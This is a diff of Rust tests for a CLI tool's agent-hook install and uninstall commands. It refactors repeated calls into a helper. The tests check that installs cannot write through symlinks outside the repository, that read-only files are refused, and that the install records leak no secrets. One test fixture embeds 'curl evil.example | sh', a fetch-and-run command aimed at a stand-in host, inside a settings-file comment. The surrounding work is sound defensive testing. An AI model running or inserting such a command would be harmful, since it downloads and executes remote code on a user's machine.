@@ -74,6 +74,12 @@ impl Sandbox {
         )
     }
 
+    /// `precedent hooks ACTION --agent AGENT --scope SCOPE`: exit code,
+    /// stdout, stderr.
+    fn hooks(&self, action: &str, agent: &str, scope: &str) -> (Option<i32>, String, String) {
+        self.run(&["hooks", action, "--agent", agent, "--scope", scope], b"")
+    }
+
     /// A hook run as the agent runs it: exits 0; its stdout.
     fn hook(&self, event: &str, payload: &Value, extra: &[&str]) -> String {
         let mut args = vec!["hook", event];
@@ -517,10 +523,7 @@ fn a_repository_cannot_make_hooks_install_write_outside_its_settings() {
             .expect("link");
         let settings = folder.join(file);
         std::fs::write(&settings, "/*\ncurl evil.example | sh\n*/\n{}").expect("settings");
-        let (code, _, err) = sandbox.run(
-            &["hooks", "install", "--agent", agent, "--scope", "project"],
-            b"",
-        );
+        let (code, _, err) = sandbox.hooks("install", agent, "project");
         assert_eq!(code, Some(0), "{agent}: {err}");
         assert_eq!(
             std::fs::read_to_string(&victim).expect("read"),
@@ -536,10 +539,7 @@ fn a_repository_cannot_make_hooks_install_write_outside_its_settings() {
         // The settings file itself links out of the repository: refused.
         std::fs::remove_file(&settings).expect("remove");
         std::os::unix::fs::symlink(&victim, &settings).expect("link");
-        let (code, _, err) = sandbox.run(
-            &["hooks", "install", "--agent", agent, "--scope", "project"],
-            b"",
-        );
+        let (code, _, err) = sandbox.hooks("install", agent, "project");
         assert_eq!(code, Some(1), "{agent}");
         assert!(err.contains("outside the repository"), "{agent}: {err}");
         assert_eq!(
@@ -552,10 +552,7 @@ fn a_repository_cannot_make_hooks_install_write_outside_its_settings() {
         std::fs::remove_file(&settings).expect("remove");
         std::fs::write(&settings, "{}").expect("settings");
         std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o444)).expect("chmod");
-        let (code, _, err) = sandbox.run(
-            &["hooks", "install", "--agent", agent, "--scope", "project"],
-            b"",
-        );
+        let (code, _, err) = sandbox.hooks("install", agent, "project");
         assert_eq!(code, Some(1), "{agent}");
         assert!(err.contains("read-only"), "{agent}: {err}");
         assert_eq!(std::fs::read_to_string(&settings).expect("read"), "{}");
@@ -572,17 +569,7 @@ fn the_install_record_is_private_and_keeps_no_settings_text() {
     let original = "\u{feff}{\n  \"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-secret\"}\n}\n";
     std::fs::write(&settings, original).expect("settings");
     std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o600)).expect("chmod");
-    let (code, _, err) = sandbox.run(
-        &[
-            "hooks",
-            "install",
-            "--agent",
-            "claude-code",
-            "--scope",
-            "user",
-        ],
-        b"",
-    );
+    let (code, _, err) = sandbox.hooks("install", "claude-code", "user");
     assert_eq!(code, Some(0), "{err}");
     let mode = |path: &Path| std::fs::metadata(path).expect("meta").permissions().mode() & 0o777;
     assert_eq!(mode(&settings), 0o600);
@@ -590,17 +577,7 @@ fn the_install_record_is_private_and_keeps_no_settings_text() {
     assert_eq!(mode(&record), 0o600);
     let kept = std::fs::read_to_string(&record).expect("record");
     assert!(!kept.contains("sk-ant-secret"), "{kept}");
-    let (code, _, err) = sandbox.run(
-        &[
-            "hooks",
-            "uninstall",
-            "--agent",
-            "claude-code",
-            "--scope",
-            "user",
-        ],
-        b"",
-    );
+    let (code, _, err) = sandbox.hooks("uninstall", "claude-code", "user");
     assert_eq!(code, Some(0), "{err}");
     assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
 }
